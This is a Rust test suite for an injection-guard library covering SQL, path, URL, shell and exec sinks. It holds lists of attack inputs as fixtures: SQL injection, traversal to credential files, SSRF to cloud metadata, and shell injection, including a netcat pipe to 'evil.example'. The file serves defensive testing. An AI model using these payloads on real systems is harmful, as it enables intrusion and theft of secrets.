//! Each guard on attacks built the way applications build vulnerable
//! sinks (string concatenation into a template) and on benign twins, per
//! dialect and platform.

#![allow(missing_docs)]

use rasp_guard::{Dialect, Platform, exec, path, shell, sql, url};

const DIALECTS: [Dialect; 4] = [
    Dialect::PostgreSql,
    Dialect::MySql,
    Dialect::Sqlite,
    Dialect::Generic,
];

/// Statement templates: `{}` is where the application pastes the input.
const SQL_QUOTED: &[&str] = &[
    "SELECT * FROM users WHERE name = '{}'",
    "SELECT id FROM accounts WHERE email = '{}' AND active = 1",
    "UPDATE profiles SET bio = '{}' WHERE id = 7",
    "INSERT INTO notes (owner, body) VALUES (3, '{}')",
    "SELECT * FROM items WHERE title LIKE '%{}%' ORDER BY id",
];
const SQL_BARE: &[&str] = &[
    "SELECT * FROM orders WHERE id = {}",
    "SELECT * FROM orders WHERE id = {} LIMIT 10",
    "SELECT name FROM products ORDER BY {} DESC",
    "DELETE FROM carts WHERE user_id = {}",
];

const SQL_QUOTED_ATTACKS: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1 --",
    "admin'--",
    "x' UNION SELECT password, 1 FROM users --",
    "'; DROP TABLE users; --",
    "' AND SLEEP(5) AND 'a'='a",
    "x' || (SELECT version()) || '",
    "' OR 'a' LIKE 'a",
    "zz'/**/OR/**/1=1/**/--",
    "'), ('evil', 'row",
];
const SQL_BARE_ATTACKS: &[&str] = &[
    "1 OR 1=1",
    "1; DROP TABLE orders",
    "1 UNION SELECT password FROM users",
    "1 AND (SELECT COUNT(*) FROM users) > 0",
    "1--",
    "1/**/OR/**/1=1",
    "id; SELECT pg_sleep(5)",
    "(SELECT 1)",
    "1 AND 1=2",
    "name, (SELECT password FROM users LIMIT 1)",
];
const SQL_QUOTED_BENIGN: &[&str] = &[
    "alice",
    "alice@example.com",
    "select a seat near the union station",
    "Robert; a teacher -- retired",
    "50% off, or more",
    "DROP by anytime",
    "1=1 is true",
    "/* not a comment */",
];
const SQL_BARE_BENIGN: &[&str] = &["42", "1000000", "-5", "3.25", "created_at", "name"];

fn fill(template: &str, input: &str) -> String {
    template.replace("{}", input)
}

#[test]
fn sql_attacks_are_refused_in_every_dialect() {
    let mut cases = 0;
    for d in DIALECTS {
        for t in SQL_QUOTED {
            for a in SQL_QUOTED_ATTACKS {
                let r = sql(&fill(t, a), d, &["unrelated", a]);
                assert!(r.is_err(), "{d:?} {t:?} {a:?}");
                assert_eq!(r.unwrap_err().input, 1);
                cases += 1;
            }
        }
        for t in SQL_BARE {
            for a in SQL_BARE_ATTACKS {
                assert!(sql(&fill(t, a), d, &[a]).is_err(), "{d:?} {t:?} {a:?}");
                cases += 1;
            }
        }
    }
    assert!(cases >= 4 * 40, "{cases}");
}

#[test]
fn sql_benign_inputs_pass_in_every_dialect() {
    let mut cases = 0;
    for d in DIALECTS {
        for t in SQL_QUOTED {
            for b in SQL_QUOTED_BENIGN {
                assert_eq!(sql(&fill(t, b), d, &[b]), Ok(()), "{d:?} {t:?} {b:?}");
                cases += 1;
            }
        }
        for t in SQL_BARE {
            for b in SQL_BARE_BENIGN {
                assert_eq!(sql(&fill(t, b), d, &[b]), Ok(()), "{d:?} {t:?} {b:?}");
                cases += 1;
            }
        }
    }
    assert!(cases >= 4 * 20, "{cases}");
}

#[test]
fn escaped_and_bound_inputs_pass() {
    // the application escaped the quote: the input is not there verbatim
    let s = "SELECT * FROM users WHERE name = 'O''Brien'";
    assert_eq!(sql(s, Dialect::PostgreSql, &["O'Brien"]), Ok(()));
    let s = r"SELECT * FROM users WHERE name = 'O\'Brien'";
    assert_eq!(sql(s, Dialect::MySql, &["O'Brien"]), Ok(()));
    // a bound parameter: the input is not in the statement at all
    let s = "SELECT * FROM users WHERE name = $1";
    assert_eq!(sql(s, Dialect::PostgreSql, &["' OR '1'='1"]), Ok(()));
    // dollar quoting keeps quotes inside
    let s = "SELECT $q$it's ' OR '1'='1$q$";
    assert_eq!(sql(s, Dialect::PostgreSql, &["' OR '1'='1"]), Ok(()));
    // MySQL reads a backslash as an escape, PostgreSQL does not
    let s = r"SELECT * FROM t WHERE a = 'x\' OR 1=1 -- '";
    assert_eq!(sql(s, Dialect::MySql, &[r"x\' OR 1=1 -- "]), Ok(()));
    assert!(sql(s, Dialect::PostgreSql, &[r"x\' OR 1=1 -- "]).is_err());
    // MySQL's `#` comment
    let s = "SELECT * FROM t WHERE a = 'x'#'";
    assert!(sql(s, Dialect::MySql, &["x'#"]).is_err());
    // one-byte inputs are not looked for
    assert_eq!(sql("SELECT 1; SELECT 2", Dialect::Generic, &[";"]), Ok(()));
    // an unreadable statement is no attack by itself
    assert_eq!(
        sql("SELECT 'unterminated", Dialect::Generic, &["hello"]),
        Ok(())
    );
}

const PATH_ATTACKS: &[&str] = &[
    "../../etc/passwd",
    "../secret.txt",
    "..",
    "a/../../b",
    "./../x",
    "../../../../../../proc/self/environ",
    "reports/../../../var/log/auth.log",
    "x/../..",
];

#[test]
fn paths_that_climb_or_root_are_refused() {
    let mut cases = 0;
    for base in [
        "/srv/data/exports/",
        "data/exports/",
        "/srv/app/uploads/2024/",
    ] {
        for a in PATH_ATTACKS {
            let p = format!("{base}{a}");
            assert!(path(&p, Platform::Unix, &[a]).is_err(), "{p}");
            assert!(path(&p, Platform::Windows, &[a]).is_err(), "{p}");
            let win = format!("{}{}", base.replace('/', "\\"), a.replace('/', "\\"));
            assert!(
                path(&win, Platform::Windows, &[&a.replace('/', "\\")]).is_err(),
                "{win}"
            );
            cases += 3;
        }
    }
    // an input that is the whole path, absolute: the folder is gone
    for input in [
        "/etc/passwd",
        "/root/.ssh/id_rsa",
        "/etc/shadow",
        "/proc/self/environ",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/home/app/.aws/credentials",
        "/srv/app/.env",
        "//etc/passwd",
        "/dev/tcp/10.0.0.1/80",
    ] {
        assert!(path(input, Platform::Unix, &[input]).is_err(), "{input}");
        // joined to a folder the way `Path::join` does: it replaces it
        let joined = std::path::Path::new("/srv/data").join(input);
        let joined = joined.to_string_lossy();
        assert!(path(&joined, Platform::Unix, &[input]).is_err(), "{joined}");
        cases += 2;
    }
    for (p, input) in [
        ("/srv/data/\0x/../../etc/passwd", "\0x/../../etc/passwd"),
        ("/srv/data/x\0.txt", "x\0.txt"),
    ] {
        assert!(path(p, Platform::Unix, &[input]).is_err(), "{p}");
        cases += 1;
    }
    for (p, input) in [
        ("C:\\Windows\\win.ini", "C:\\Windows\\win.ini"),
        ("\\\\server\\share\\x", "\\\\server\\share\\x"),
        ("data\\report.txt:secret", "report.txt:secret"),
        ("data\\x\0.txt", "x\0.txt"),
    ] {
        assert!(path(p, Platform::Windows, &[input]).is_err(), "{p}");
        cases += 1;
    }
    assert!(cases >= 40, "{cases}");
}

#[test]
fn paths_inside_their_directory_pass() {
    let mut cases = 0;
    for base in ["/srv/data/exports/", "data/exports/", "C:/data/exports/"] {
        for b in [
            "report.csv",
            "2024/03/report.csv",
            "2024/../report.csv",
            "a..b.txt",
            "..hidden",
            "q1 summary (final).pdf",
            "./report.csv",
        ] {
            let p = format!("{base}{b}");
            assert_eq!(path(&p, Platform::Unix, &[b]), Ok(()), "{p}");
            assert_eq!(path(&p, Platform::Windows, &[b]), Ok(()), "{p}");
            cases += 2;
        }
    }
    assert!(cases >= 20, "{cases}");
}

#[test]
fn urls_that_choose_a_host_or_scheme_are_refused() {
    let mut cases = 0;
    // the whole URL from the client
    for a in [
        "http://127.0.0.1/admin",
        "http://localhost:8080/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://0177.0.0.1/",
        "http://10.0.0.1:8080/",
        "http://100.64.0.1/",
        "http://10.0.0.5/internal",
        "http://192.168.1.1/",
        "http://172.16.0.1/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://0.0.0.0:6379/",
        "http://[fd00::1]/",
        "http://100.64.0.1/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_INFO",
        "ftp://example.com/x",
        "http://app.localhost/",
        "http://[fe80::1]/",
        "http://[fd00:ec2::254]/latest/meta-data/",
    ] {
        assert!(url(a, &[a]).is_err(), "{a}");
        cases += 1;
    }
    // an input pasted into the authority or the path of a fixed URL
    for (template, a) in [
        ("https://api.example.com{}/v1/users", "@127.0.0.1"),
        ("https://api.example.com{}/v1/users", ".evil.example#"),
        ("https://{}.tenants.example.com/", "127.0.0.1/x?"),
        ("https://{}.tenants.example.com/", "evil.example/"),
        ("http://{}/status", "localhost"),
        ("http://{}/status", "169.254.169.254"),
        ("http://{}:8080/", "10.1.2.3"),
        ("https://cdn.example.com/files/{}", "../../admin"),
        ("https://cdn.example.com/files/{}", "a/../../../x"),
        ("https://cdn.example.com/files/{}", "%2e%2e/%2e%2e/x"),
        ("{}://example.com/", "file"),
        ("{}://example.com/", "gopher"),
        ("https://api.example.com/{}", "..\\..\\admin"),
        ("https://user:{}@example.com/", "x@127.0.0.1/"),
        ("http://{}", "127.1"),
        ("http://{}", "[::1]:22"),
        ("http://{}/", "0x7f000001"),
        ("http://{}/", "017700000001"),
        ("http://{}/", "localhost."),
        ("http://{}/", "LOCALHOST"),
    ] {
        let u = template.replace("{}", a);
        assert!(url(&u, &[a]).is_err(), "{u}");
        cases += 1;
    }
    assert!(cases >= 40, "{cases}");
}

#[test]
fn urls_to_public_hosts_and_plain_paths_pass() {
    let mut cases = 0;
    for (u, input) in [
        (
            "https://hooks.example.com/incoming/abc",
            "https://hooks.example.com/incoming/abc",
        ),
        ("https://example.org/", "https://example.org/"),
        ("http://93.184.216.34/x", "http://93.184.216.34/x"),
        ("http://93.184.216.34:8080/x", "93.184.216.34:8080"),
        // octal `010` is 8: a public address once the parser reads it
        ("http://010.0.0.1/", "http://010.0.0.1/"),
        ("https://acme.tenants.example.com/", "acme"),
        ("https://cdn.example.com/files/report.pdf", "report.pdf"),
        (
            "https://cdn.example.com/files/2024/../report.pdf",
            "2024/../report.pdf",
        ),
        ("https://api.example.com/search?q=127.0.0.1", "127.0.0.1"),
        ("https://api.example.com/search?q=../../etc", "../../etc"),
        ("https://api.example.com/search#localhost", "localhost"),
        ("https://api.example.com/users/42", "42"),
        ("https://api.example.com/users/alice", "alice"),
        ("https://api.example.com/v1/items?page=2", "page=2"),
        ("https://[2606:4700::1111]/", "https://[2606:4700::1111]/"),
        ("https://example.com:8443/x", "https://example.com:8443/x"),
        ("https://example.com/a b", "a b"),
        ("https://api.example.com/files/a..b", "a..b"),
        ("https://api.example.com/x", "unrelated input"),
        ("https://sub.example.com/", "sub"),
        ("https://example.com/%2e%2ehidden", "%2e%2ehidden"),
        (
            "https://example.com/x?redirect=http://localhost/",
            "http://localhost/",
        ),
    ] {
        assert_eq!(url(u, &[input]), Ok(()), "{u} {input}");
        cases += 1;
    }
    assert!(cases >= 20, "{cases}");
}

#[test]
fn shell_syntax_from_an_input_is_refused() {
    let mut cases = 0;
    let unquoted = [
        "x; id",
        "x && cat /etc/passwd",
        "x | nc evil.example 4444",
        "$(id)",
        "`id`",
        "x > /tmp/out",
        "x\nid",
        "x' ; id ; '",
        "x\" ; id ; \"",
        "${IFS}id",
        "x & id",
        "x || id",
        "/etc/*",
        "<(id)",
        // expansions leak the environment (`$DATABASE_URL`) or arguments
        "$HOME",
        "x$DATABASE_URL",
        "$1",
        "$@",
    ];
    for t in [
        "ping -c 1 {}",
        "convert {} out.png",
        "tar czf backup.tgz {}",
    ] {
        for a in unquoted {
            let c = t.replace("{}", a);
            assert!(shell(&c, &[a]).is_err(), "{c}");
            cases += 1;
        }
    }
    // inside double quotes `$(`, backticks and the closing quote act
    for a in [
        "$(id)",
        "`id`",
        "x\"; id; \"",
        "${PATH}",
        "$AWS_SECRET_ACCESS_KEY",
    ] {
        let c = format!("echo \"{a}\" >> /var/log/app.log");
        assert!(shell(&c, &[a]).is_err(), "{c}");
        cases += 1;
    }
    // inside single quotes only a closing quote acts
    for a in ["x'; id; '", "'$(id)'", "x' | nc e 1 #"] {
        let c = format!("grep -r '{a}' /srv/logs");
        assert!(shell(&c, &[a]).is_err(), "{c}");
        cases += 1;
    }
    // the input becomes the command
    for (c, a) in [
        ("id", "id"),
        ("whoami; ls", "whoami"),
        ("/bin/sh -i", "/bin/sh"),
    ] {
        assert!(shell(c, &[a]).is_err(), "{c}");
        cases += 1;
    }
    assert!(cases >= 40, "{cases}");
}

#[test]
fn shell_arguments_pass() {
    let mut cases = 0;
    for (t, b) in [
        ("ping -c 1 {}", "example.com"),
        ("ping -c 1 {}", "10.0.0.1"),
        ("convert {} out.png", "photo-2024_03.jpg"),
        ("grep -r '{}' /srv/logs", "error 500; retry"),
        ("grep -r '{}' /srv/logs", "a | b && c"),
        ("grep -r '{}' /srv/logs", "$(not run)"),
        ("echo \"{}\" >> /var/log/app.log", "hello world"),
        ("echo \"{}\" >> /var/log/app.log", "a; b | c && d"),
        ("tar czf backup.tgz {}", "reports"),
        ("ls -la {}", "uploads/2024"),
        ("git log --author={}", "alice"),
        // a `$` that expands nothing is a literal
        ("echo {}", "price: 5$"),
        ("echo \"{}\"", "US$ 20"),
    ] {
        let c = t.replace("{}", b);
        assert_eq!(shell(&c, &[b]), Ok(()), "{c}");
        cases += 1;
    }
    // quoted in single quotes, everything stays text
    for b in [
        "; id",
        "| nc x 1",
        "`id`",
        "$(id)",
        "> /tmp/x",
        "&& rm -rf /",
        "x\ny",
        "*",
        "~",
        "a b c",
    ] {
        let c = format!("grep -r '{b}' /srv/logs");
        assert_eq!(shell(&c, &[b]), Ok(()), "{c}");
        cases += 1;
    }
    assert!(cases >= 20, "{cases}");
}

#[test]
fn exec_refuses_a_chosen_program_or_script() {
    assert!(exec(&["/usr/bin/curl", "-s"], &["/usr/bin/curl"]).is_err());
    assert!(
        exec(
            &["python3", "-c", "import os; print('hi')"],
            &["import os; print('hi')"]
        )
        .is_err()
    );
    assert!(exec(&["sh", "-c", "ping -c 1 x; id"], &["x; id"]).is_err());
    assert!(exec(&["cmd.exe", "/c", "dir C:\\x & whoami"], &["x & whoami"]).is_err());
    assert!(
        exec(
            &["node", "-e", "require('child_process')"],
            &["require('child_process')"]
        )
        .is_err()
    );
    // an argument of its own is no shell syntax
    assert_eq!(exec(&["ping", "-c", "1", "x; id"], &["x; id"]), Ok(()));
    assert_eq!(
        exec(&["convert", "$(id).png", "out.png"], &["$(id).png"]),
        Ok(())
    );
    assert_eq!(
        exec(&["sh", "-c", "ping -c 1 \"$1\"", "sh", "x; id"], &["x; id"]),
        Ok(())
    );
    assert_eq!(
        exec(&["sh", "-c", "ping -c 1 example.com"], &["example.com"]),
        Ok(())
    );
    assert_eq!(exec(&[], &["x"]), Ok(()));
}

#[test]
fn exec_cases_per_platform_shape() {
    let (mut attacks, mut benign) = (0, 0);
    // the input chose the program
    for program in [
        "/usr/bin/curl",
        "curl",
        "/bin/sh",
        "bash",
        "nc",
        "python3",
        "powershell.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "./payload",
        "../../bin/sh",
    ] {
        assert!(exec(&[program, "-s"], &[program]).is_err(), "{program}");
        attacks += 1;
    }
    // the input is in the script of an interpreter's script option
    for (interpreter, option) in [
        ("sh", "-c"),
        ("/bin/bash", "-c"),
        ("dash", "-c"),
        ("zsh", "-c"),
        ("busybox", "-c"),
        ("python3", "-c"),
        ("python", "-c"),
        ("perl", "-e"),
        ("ruby", "-e"),
        ("node", "-e"),
        ("php", "-r"),
        ("powershell", "-Command"),
        ("pwsh", "-c"),
        ("cmd", "/c"),
        ("CMD.EXE", "/C"),
    ] {
        let shell_like = matches!(interpreter, "sh" | "/bin/bash" | "dash" | "zsh" | "busybox");
        for input in ["x; id", "x | nc e 1", "$(id)"] {
            let script = if shell_like {
                format!("ping -c 1 {input}")
            } else {
                format!("run('{input}')")
            };
            assert!(
                exec(&[interpreter, option, &script], &[input]).is_err(),
                "{interpreter} {option} {script}"
            );
            attacks += 1;
        }
        // the same inputs as arguments of their own pass
        for input in ["x; id", "$(id)"] {
            let fixed = if shell_like {
                "ping -c 1 \"$1\""
            } else {
                "run(arg)"
            };
            assert_eq!(
                exec(&[interpreter, option, fixed, "--", input], &[input]),
                Ok(()),
                "{interpreter} {input}"
            );
            benign += 1;
        }
    }
    // hostile-looking arguments of a fixed program pass: no shell reads them
    for arg in [
        "x; id",
        "a | b",
        "$(id)",
        "`id`",
        "> /etc/passwd",
        "../../etc/passwd",
        "-c",
        "*",
    ] {
        assert_eq!(exec(&["ping", "-c", "1", arg], &[arg]), Ok(()), "{arg}");
        benign += 1;
    }
    assert!(attacks >= 40 && benign >= 20, "{attacks} {benign}");
}

#[test]
fn no_guard_panics_on_odd_input() {
    let odd = [
        "", "'", "\"", "$", "\\", "$$", "/*", "--", "[", "`", "é", "\0", "::", "http:", "//",
        "http://[", "a:b@", "%",
    ];
    for s in odd {
        for i in odd {
            for d in DIALECTS {
                let _ = sql(s, d, &[i]);
            }
            let _ = path(s, Platform::Unix, &[i]);
            let _ = path(s, Platform::Windows, &[i]);
            let _ = url(s, &[i]);
            let _ = shell(s, &[i]);
            let _ = exec(&[s, i], &[i]);
        }
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2_000))]

    /// Any argument, any inputs, and inputs cut from the argument itself
    /// (so that the guards judge real occurrences, at char boundaries or
    /// not): no guard panics.
    #[test]
    fn no_guard_panics_on_arbitrary_input(
        arg in "\\PC{0,200}",
        other in "\\PC{0,20}",
        cut in 0usize..200,
        len in 0usize..40,
        k in 0u8..8,
    ) {
        let bytes = arg.as_bytes();
        let start = cut.min(bytes.len());
        let end = (start + len).min(bytes.len());
        let own = String::from_utf8_lossy(&bytes[start..end]).into_owned();
        let inputs = [other.as_str(), own.as_str()];
        let d = DIALECTS[usize::from(k % 4)];
        let p = if k < 4 { Platform::Unix } else { Platform::Windows };
        let _ = sql(&arg, d, &inputs);
        let _ = path(&arg, p, &inputs);
        let _ = url(&arg, &inputs);
        let _ = shell(&arg, &inputs);
        let argv: Vec<&str> = arg.split(' ').collect();
        let _ = exec(&argv, &inputs);
    }
}
